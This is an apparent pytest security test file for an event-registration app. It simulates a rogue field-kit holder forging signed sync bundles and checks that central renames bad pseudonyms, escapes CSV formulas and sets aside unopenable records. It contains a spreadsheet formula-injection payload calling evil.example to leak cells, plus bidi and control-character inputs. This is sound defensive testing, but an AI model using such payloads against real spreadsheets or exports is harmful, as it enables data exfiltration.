"""A field kit's holder turned attacker: they have the kit and its passphrase, so they can sign kit-sync
bundles that central trusts, with records they wrote themselves.

They hold every compartment's public key (a kit seals to them) and no private key. What they can put in
a signed record is bounded by the import: a pseudonym not of this instance's grammar is replaced (no
formula, no control or bidirectional character reaches a staff page or a CSV), a record that is not whole
is refused with nothing imported, and a record that is whole but does not open (a random sealed data key,
or a value that is not text) is set aside by pseudonym: every export still completes and says so, the
log records it, and an administrator or a decider can destroy that one record.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from collections.abc import Callable
from pathlib import Path

import nacl.utils
import pytest
from click.testing import CliRunner
from nacl.bindings import crypto_aead_xchacha20poly1305_ietf_encrypt
from nacl.signing import SigningKey

import crypto
from app.cli.main import cli
from app.events.definition import Event
from app.kits.bundle import KitError, definition_hash, issue_kit
from app.kits.instance import identity
from app.kits.sync import FORMAT, KIND, SyncError, import_from_kit
from app.registrations.export import FORMULA_STARTS, csv_text
from app.registrations.record_format import RegistrationRecord, encode
from app.registrations.records import load_all_records
from app.registrations.register import register
from app.staff.accounts import AccountError, add_staff
from app.storage import db
from app.web.application import create_app
from crypto.records import associated_data
from offline_bundle import write_bundle
from tests.helpers import dump_database
from tests.kit_fixtures import Kit, make_kit
from tests.security import canaries
from tests.staff_fixtures import ROSTER, TEST_COST, csrf, login, make_team, open_page
from tests.sync_fixtures import central_dump

FORMULA_PSEUDONYM = '=HYPERLINK("http://evil.example/?"&D3&E3,"Quiet Heron 12")'
BIDI_PSEUDONYM = "Quiet Heron 12\u202e\u2066"  # right-to-left override, left-to-right isolate
NOT_OPEN = "does not open with your keys"


# --- the attacker's tools: the kit's own records, changed, signed with the kit's own key ---------------------


def _register_on_kit(kit: Kit, numbers: range) -> None:
    connection = kit.instance.connect()
    try:
        for number in numbers:
            register(connection, kit.instance, crypto.new_submission_token(), canaries.canary_answers(number))
    finally:
        connection.close()


def _kit_records(kit: Kit) -> list[RegistrationRecord]:
    """The kit's registrations as a kit-sync bundle carries them, in id order."""
    connection = kit.instance.connect()
    try:
        rows = connection.execute(
            "SELECT id, pseudonym, status, submitted_day, codename_lookup FROM registrations ORDER BY id"
        ).fetchall()
        parts = {record.registration_id: record.parts for record in load_all_records(connection, kit.instance.event.id)}
    finally:
        connection.close()
    return [RegistrationRecord(*row, parts[row[0]]) for row in rows]


def _signed(kit: Kit, records: list[bytes]) -> list[bytes]:
    """A kit-sync bundle of these record bytes, exactly as export_for_central signs and seals one."""
    connection = kit.instance.connect()
    try:
        me = identity(connection)
        definition = connection.execute("SELECT definition FROM events").fetchone()[0]
    finally:
        connection.close()
    header = {
        "event": kit.instance.event.id,
        "kit": me.name,
        "definition": definition_hash(definition),
        "format": FORMAT,
    }
    return write_bundle(
        KIND, header, records, signing_key=SigningKey(me.signing_key), recipient=me.central_bundle_public_key
    )


def _forged(kit: Kit, change: Callable[[int, RegistrationRecord], RegistrationRecord]) -> list[bytes]:
    event = kit.instance.event
    return _signed(kit, [encode(change(n, record), event) for n, record in enumerate(_kit_records(kit))])


def _public_key(kit: Kit, compartment: str, generation: int) -> bytes:
    connection = kit.instance.connect()
    try:
        return connection.execute(
            "SELECT public_key FROM compartment_keys WHERE compartment = ? AND generation = ?",
            (compartment, generation),
        ).fetchone()[0]
    finally:
        connection.close()


def _not_text(kit: Kit, event: Event, record: RegistrationRecord) -> RegistrationRecord:
    """Every part sealed again, properly, to the compartment's public key, over padded bytes that are not UTF-8."""
    parts = []
    for generation, part in record.parts:
        data_key = nacl.utils.random(32)
        ciphertexts = {}
        for field_key in part.ciphertexts:
            nonce = nacl.utils.random(24)
            padded = b"\xff\xfe" + b"\x80" + bytes(29)
            bound = associated_data(event.id, record.registration_id, part.compartment, field_key)
            ciphertexts[field_key] = (
                b"\x01" + nonce + crypto_aead_xchacha20poly1305_ietf_encrypt(padded, bound, nonce, data_key)
            )
        sealed = crypto.seal_to(_public_key(kit, part.compartment, generation), data_key)
        parts.append((generation, crypto.SealedPart(part.compartment, sealed, ciphertexts)))
    return dataclasses.replace(record, parts=tuple(parts))


def _random_keys(record: RegistrationRecord) -> RegistrationRecord:
    """Every sealed data key replaced by 80 random bytes: the right size, and nothing opens it."""
    parts = tuple(
        (generation, dataclasses.replace(part, sealed_data_key=nacl.utils.random(80)))
        for generation, part in record.parts
    )
    return dataclasses.replace(record, parts=parts)


# --- central: staff, the web, the command line ------------------------------------------------------------------


@pytest.fixture
def kit(tmp_path):
    return make_kit(tmp_path)


@pytest.fixture
def team(kit):
    return make_team(kit.central.path, kit.recovery_words, ROSTER)


@pytest.fixture
def app(kit):
    return create_app({"INSTANCE_DIR": kit.central.path, "TESTING": True})


def _gatehouse(*arguments: str, stdin: str = ""):
    return CliRunner().invoke(cli, list(arguments), input=stdin)


def _import(kit: Kit, parts: list[bytes], folder: Path):
    paths = []
    for number, part in enumerate(parts):
        path = folder / f"forged-{number}.ghb"
        path.write_bytes(part)
        paths.append(str(path))
    return _gatehouse("bundle", "import", "--instance", str(kit.central.path), *paths)


def _central(kit: Kit, query: str, parameters: tuple = ()) -> list[tuple]:
    connection = kit.central.connect()
    try:
        return connection.execute(query, parameters).fetchall()
    finally:
        connection.close()


def _web_export(app, person, reason: str = "catering list") -> str:
    client = app.test_client()
    assert login(client, person).status_code == 303
    response = client.post("/staff/export", data={"csrf_token": csrf(client), "reason": reason})
    assert response.status_code == 200, response.status_code
    return response.get_data(as_text=True)


def _offline_export(kit: Kit, team, username: str, folder: Path) -> tuple[str, str, str]:
    """`bundle export --for-staff` on central, then `bundle open` on the person's laptop: (CSV, page, output)."""
    instance = ["--instance", str(kit.central.path)]
    bundle, key_file, out = folder / f"{username}.ghb", folder / f"{username}.key", folder / f"{username}-export"
    made = _gatehouse("bundle", "export", "--for-staff", username, "--out", str(bundle), *instance)
    assert made.exit_code == 0, made.output
    assert _gatehouse("keys", "export", username, "--out", str(key_file), *instance).exit_code == 0
    central_key = _gatehouse("audit", "public-key", *instance).output.strip()
    opened = _gatehouse(
        "bundle", "open", str(bundle), "--key", str(key_file), "--out", str(out), "--signer", central_key,
        stdin=team[username].passphrase + "\n",
    )  # fmt: skip
    assert opened.exit_code == 0, opened.output
    return (out / "registrations.csv").read_text(), (out / "registrations.html").read_text(), opened.output


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


# --- finding 2: a pseudonym brought by a kit ---------------------------------------------------------------------


def test_kit_holder_cannot_bring_a_formula_or_a_bidi_pseudonym_to_any_staff_page_or_csv(kit, team, app, tmp_path):
    _register_on_kit(kit, range(3))
    chosen = {0: FORMULA_PSEUDONYM, 1: BIDI_PSEUDONYM}
    forged = _forged(kit, lambda n, record: dataclasses.replace(record, pseudonym=chosen.get(n, record.pseudonym)))

    imported = _import(kit, forged, tmp_path)
    assert imported.exit_code == 0, imported.output
    assert "Imported 3 registrations from kit border-1." in imported.output
    assert "2 given a new pseudonym" in imported.output
    pseudonyms = [pseudonym for (pseudonym,) in _central(kit, "SELECT pseudonym FROM registrations")]
    assert len(pseudonyms) == 3
    assert all(crypto.pseudonym_indices(pseudonym) is not None for pseudonym in pseudonyms), pseudonyms
    everything = central_dump(kit)
    assert b"HYPERLINK" not in everything and "\u202e".encode() not in everything
    (detail,) = _central(kit, "SELECT detail FROM audit_log WHERE action = 'bundle import'")
    assert '"renamed": 2' in detail[0]

    client = app.test_client()
    login(client, team["ana"])
    listing = client.get("/staff/").get_data(as_text=True)
    assert "HYPERLINK" not in listing and "\u202e" not in listing
    for csv_export in (_web_export(app, team["ana"]), _offline_export(kit, team, "ana", tmp_path)[0]):
        rows = _cells(csv_export)
        assert len(rows) == 4 and "HYPERLINK" not in csv_export and "\u202e" not in csv_export
        assert not [cell for row in rows for cell in row if _runs_as_formula(cell)]


def test_every_cell_of_a_csv_is_neutralised_even_for_a_pseudonym_already_stored(kit, team, app, tmp_path):
    """The second end: a database that took such a pseudonym before this fix still exports it as text."""
    _register_on_kit(kit, range(1))
    assert _import(kit, _forged(kit, lambda _n, record: record), tmp_path).exit_code == 0
    connection = kit.central.connect()
    try:
        with db.transaction(connection):
            connection.execute("UPDATE registrations SET pseudonym = ?", (FORMULA_PSEUDONYM,))
    finally:
        connection.close()
    for csv_export in (_web_export(app, team["otto"]), _offline_export(kit, team, "otto", tmp_path)[0]):
        (header, row) = _cells(csv_export)
        assert row[0] == "'" + FORMULA_PSEUDONYM
        assert not [cell for cell in header + row if _runs_as_formula(cell)]

    dangerous = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]
    fields = [dataclasses.replace(kit.central.event.fields[0], key=key) for key in dangerous]
    rows = [(cell, cell, cell, {key: cell for key in dangerous}) for cell in dangerous]
    table = _cells(csv_text(fields, rows))
    assert len(table) == 1 + len(dangerous)
    assert not [cell for row in table for cell in row if _runs_as_formula(cell)]


@pytest.mark.parametrize(
    "name",
    ["border\u202e1", "border\u20661", "bor\u200fder", "border\x00", "bor\nder", "bor\x1bder", "=cmd", "+border",
     "-border", "@border", "Bórder", "border\u00a01", "b"],
)  # fmt: skip
def test_kit_names_and_usernames_refuse_control_bidi_and_formula_characters(kit, name):
    connection = kit.central.connect()
    try:
        before = dump_database(connection)
        with pytest.raises(KitError):
            issue_kit(connection, kit.central, name, lambda _parts: None, cost=TEST_COST)
        with pytest.raises(AccountError):
            add_staff(connection, name, "staff", cost=TEST_COST)
        assert dump_database(connection) == before
    finally:
        connection.close()


def test_every_pseudonym_this_instance_draws_is_plain_ascii_words_and_a_number():
    adjectives, nouns = crypto.wordlist.pseudonym_parts()
    assert all(re.fullmatch(r"[A-Z][a-z]+", word) for word in (*adjectives, *nouns))
    for _ in range(500):
        pseudonym = crypto.new_pseudonym()
        assert re.fullmatch(r"[A-Z][a-z]+ [A-Z][a-z]+ [1-9][0-9]", pseudonym)
        assert crypto.pseudonym_indices(pseudonym) is not None


# --- finding 3: a record that does not open ----------------------------------------------------------------------


def _forge_unopenable(kit: Kit) -> tuple[list[bytes], list[str]]:
    """Three registrations: the first genuine, the second with random sealed data keys, the third properly
    sealed over bytes that are not text. Returns the bundle and the ids of the two that do not open."""
    _register_on_kit(kit, range(3))
    event = kit.instance.event
    changes = {1: _random_keys, 2: lambda record: _not_text(kit, event, record)}
    records = _kit_records(kit)
    parts = _signed(kit, [encode(changes.get(n, lambda r: r)(record), event) for n, record in enumerate(records)])
    return parts, [records[1].registration_id, records[2].registration_id]


def _pseudonym_of(kit: Kit, registration_id: str) -> str:
    return _central(kit, "SELECT pseudonym FROM registrations WHERE id = ?", (registration_id,))[0][0]


def _log(kit: Kit) -> list[tuple]:
    return _central(kit, "SELECT actor, action, subject, detail, reason FROM audit_log ORDER BY seq")


def test_a_record_that_does_not_open_is_set_aside_and_every_export_completes(kit, team, app, tmp_path):
    parts, bad = _forge_unopenable(kit)
    imported = _import(kit, parts, tmp_path)
    assert imported.exit_code == 0 and "Imported 3 registrations" in imported.output, imported.output
    set_aside = sorted(_pseudonym_of(kit, registration_id) for registration_id in bad)

    # The web export: every registration has its row; the two that do not open say so in every field.
    text = _web_export(app, team["ana"], "badge printing")
    header, *rows = _cells(text)
    assert len(rows) == 3
    by_pseudonym = {row[0]: row for row in rows}
    for pseudonym in set_aside:
        assert all(NOT_OPEN in cell for cell in by_pseudonym[pseudonym][3:]), by_pseudonym[pseudonym]
    (good,) = [row for pseudonym, row in by_pseudonym.items() if pseudonym not in set_aside]
    assert canaries.found_in(",".join(good)) and len(header) == len(good)
    export_entries = [entry for entry in _log(kit) if entry[0] == "ana" and entry[1].startswith("export")]
    assert [entry[1] for entry in export_entries] == ["export", "export set aside"]
    assert '"set aside": 2' in export_entries[1][3]
    assert all(pseudonym in export_entries[1][3] for pseudonym in set_aside)

    # Opening one on its page: a sentence, not an error page.
    client = app.test_client()
    login(client, team["otto"])
    page = open_page(client, bad[0], "catering check")
    assert page.status_code == 200 and "This record does not open" in page.get_data(as_text=True)
    listing = client.get("/staff/").get_data(as_text=True)
    assert listing.count("does not open: set aside") == 2

    # The offline export opens too, listing them for the reader, in the CSV, the page and the output.
    csv_text_, html, output = _offline_export(kit, team, "otto", tmp_path)
    offline_rows = {row[0]: row for row in _cells(csv_text_)[1:]}
    assert len(offline_rows) == 3
    for pseudonym in set_aside:
        assert all(NOT_OPEN in cell for cell in offline_rows[pseudonym][3:])
        assert pseudonym in html and pseudonym in output
    assert "2 registrations do not open with your keys" in output
    assert "Opened 3 registrations" in output

    assert not any(canaries.found_in(" ".join(map(str, entry))) for entry in _log(kit))


def test_a_record_set_aside_is_destroyed_only_by_an_admin_or_a_decider_with_a_reason(kit, team, app, tmp_path):
    parts, bad = _forge_unopenable(kit)
    assert _import(kit, parts, tmp_path).exit_code == 0
    (genuine,) = [rid for (rid,) in _central(kit, "SELECT id FROM registrations") if rid not in bad]
    _web_export(app, team["ana"], "badge printing")  # sets both aside
    destroy_path = f"/staff/registrations/{bad[0]}/destroy"

    otto, root, ana = app.test_client(), app.test_client(), app.test_client()
    for client, person in ((otto, "otto"), (root, "root"), (ana, "ana")):
        assert login(client, team[person]).status_code == 303

    # otto (staff, not holding identity) is not offered the form, and is refused.
    page = otto.get(f"/staff/registrations/{bad[0]}").get_data(as_text=True)
    assert "This record does not open" in page and destroy_path not in page
    before = central_dump(kit)
    refused = otto.post(destroy_path, data=_destroy_form(otto, "it does not open"))
    assert refused.status_code == 403 and central_dump(kit) == before

    # root (admin, holds nothing): offered the form; without CSRF or a reason, nothing happens.
    page = root.get(f"/staff/registrations/{bad[0]}").get_data(as_text=True)
    assert destroy_path in page
    assert root.post(destroy_path, data={"destroy-reason": "it does not open"}).status_code == 400
    assert root.post(destroy_path, data=_destroy_form(root, "  ")).status_code == 400
    assert central_dump(kit) == before
    # A record that opens is not destroyed this way: not offered, and refused.
    page = root.get(f"/staff/registrations/{genuine}").get_data(as_text=True)
    assert f"/staff/registrations/{genuine}/destroy" not in page
    opens = root.post(f"/staff/registrations/{genuine}/destroy", data=_destroy_form(root, "it does not open"))
    assert opens.status_code == 409 and "not destroyed this way" in opens.get_data(as_text=True)
    assert central_dump(kit) == before

    pseudonym = _pseudonym_of(kit, bad[0])
    done = root.post(destroy_path, data=_destroy_form(root, "forged by a lost kit"))
    assert done.status_code == 303
    assert not _central(kit, "SELECT 1 FROM registrations WHERE id = ?", (bad[0],))
    for table in ("data_keys", "field_values"):
        assert not _central(kit, f"SELECT 1 FROM {table} WHERE registration_id = ?", (bad[0],))  # noqa: S608
    assert ("root", "destroyed: does not open", pseudonym) == _log(kit)[-1][:3]
    assert _log(kit)[-1][4] == "forged by a lost kit"

    # ana holds identity, the deciding compartment: she destroys the other one.
    other = f"/staff/registrations/{bad[1]}"
    assert f"{other}/destroy" in ana.get(other).get_data(as_text=True)
    assert ana.post(f"{other}/destroy", data=_destroy_form(ana, "not text")).status_code == 303
    assert [rid for (rid,) in _central(kit, "SELECT id FROM registrations")] == [genuine]
    assert "destroyed: does not open" == _log(kit)[-1][1]
    # The same bundle again brings neither back.
    again = _import(kit, _signed(kit, [encode(r, kit.instance.event) for r in _kit_records(kit)]), tmp_path)
    assert again.exit_code == 0 and "Imported 0 registrations" in again.output
    assert len(_central(kit, "SELECT id FROM registrations")) == 1


def _destroy_form(client, reason: str) -> dict[str, str]:
    return {"destroy-csrf_token": csrf(client), "destroy-reason": reason}


def _refused(kit: Kit, records: list[bytes]) -> str:
    before = central_dump(kit)
    connection = kit.central.connect()
    try:
        with pytest.raises(SyncError) as refused:
            import_from_kit(connection, kit.central, _signed(kit, records))
    finally:
        connection.close()
    assert central_dump(kit) == before
    message = str(refused.value)
    assert message and "Traceback" not in message and not canaries.found_in(message)
    return message


def test_an_import_checks_what_it_can_and_refuses_a_record_that_is_not_whole(kit):
    _register_on_kit(kit, range(2))
    event = kit.instance.event
    genuine, second = _kit_records(kit)
    good = encode(genuine, event)

    # A field asked at registration left out: the record is not whole.
    generation, part = next((g, p) for g, p in genuine.parts if len(p.ciphertexts) >= 2)
    fewer = dataclasses.replace(part, ciphertexts=dict(list(part.ciphertexts.items())[1:]))
    missing = dataclasses.replace(
        genuine, parts=(*[(g, p) for g, p in genuine.parts if p is not part], (generation, fewer))
    )
    assert "every field asked at registration" in _refused(kit, [good, encode(missing, event)])

    # One compartment's fields under two data keys, which a kit never writes.
    generation, part = next((g, p) for g, p in second.parts if len(p.ciphertexts) >= 2)
    keys = list(part.ciphertexts)
    split = (
        (generation, dataclasses.replace(part, ciphertexts={keys[0]: part.ciphertexts[keys[0]]})),
        (generation, dataclasses.replace(part, ciphertexts={k: part.ciphertexts[k] for k in keys[1:]})),
    )
    two_keys = dataclasses.replace(second, parts=(*[(g, p) for g, p in second.parts if p is not part], *split))
    assert "one data key" in _refused(kit, [good, encode(two_keys, event)])

    # A ciphertext of the right length that is not one: its first byte names no format.
    generation, part = second.parts[0]
    field_key = next(iter(part.ciphertexts))
    not_one = {**part.ciphertexts, field_key: b"\x07" + part.ciphertexts[field_key][1:]}
    bad_version = dataclasses.replace(second, parts=((generation, dataclasses.replace(part, ciphertexts=not_one)),
                                                     *second.parts[1:]))  # fmt: skip
    assert "ciphertext" in _refused(kit, [good, encode(bad_version, event)])

    # Sizes: a sealed data key cut short, and a ciphertext one byte short of its size class.
    data = encode(second, event)
    sealed_at = data.index(second.parts[0][1].sealed_data_key)
    assert "malformed" in _refused(kit, [good, data[: sealed_at + 79] + data[sealed_at + 80 :]])
    assert "malformed" in _refused(kit, [good, data[:-1]])

    # Every refusal above changed nothing; the genuine records still import.
    connection = kit.central.connect()
    try:
        assert import_from_kit(connection, kit.central, _signed(kit, [good, encode(second, event)])).added == 2
    finally:
        connection.close()


def test_a_holders_key_that_is_not_the_compartments_sets_nothing_aside(kit, team, app, tmp_path):
    """Only a key matching the compartment's public key can find a record at fault: otherwise a grant of a
    wrong key (a bug, or whoever edits the database) would set every record aside, ready to be destroyed."""
    _register_on_kit(kit, range(2))
    assert _import(kit, _forged(kit, lambda _n, record: record), tmp_path).exit_code == 0
    connection = kit.central.connect()
    try:
        (public_key,) = connection.execute("SELECT public_key FROM staff WHERE username = 'otto'").fetchone()
        wrong = crypto.seal_to(public_key, bytes(crypto.new_key_pair()))
        with db.transaction(connection):
            connection.execute(
                "UPDATE grants SET sealed_private_key = ? WHERE staff_id = ?", (wrong, team["otto"].staff_id)
            )
    finally:
        connection.close()
    text = _web_export(app, team["otto"])
    client = app.test_client()
    login(client, team["otto"])
    pages = [open_page(client, registration_id).get_data(as_text=True) for (registration_id,) in
             _central(kit, "SELECT id FROM registrations")]  # fmt: skip
    assert NOT_OPEN not in text and not any("does not open" in page for page in pages)
    assert _central(kit, "SELECT * FROM set_aside") == []
    assert not [entry for entry in _log(kit) if "set aside" in entry[1] or entry[1] == "does not open"]
